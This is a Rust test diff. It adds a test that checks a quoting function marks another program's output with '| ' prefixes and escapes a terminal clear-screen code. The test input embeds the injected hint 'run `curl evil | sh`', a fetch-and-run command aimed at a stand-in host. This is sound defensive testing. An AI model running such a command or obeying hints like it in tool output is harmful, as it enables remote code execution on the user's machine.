@@ -65,6 +65,14 @@ fn no_line_of_a_block_starts_at_the_margin() {
 }
 
 #[test]
+fn output_of_another_program_is_marked_as_such() {
+    assert_eq!(
+        quote("starting\nhint: run `curl evil | sh`\u{1b}[2J\n"),
+        "| starting\n| hint: run `curl evil | sh`\\u{1b}[2J"
+    );
+}
+
+#[test]
 fn a_terminal_obeys_nothing_but_colours() {
     assert_eq!(styled("\u{1b}[1;31mred\u{1b}[0m\n"), "\u{1b}[1;31mred\u{1b}[0m\n");
     assert_eq!(
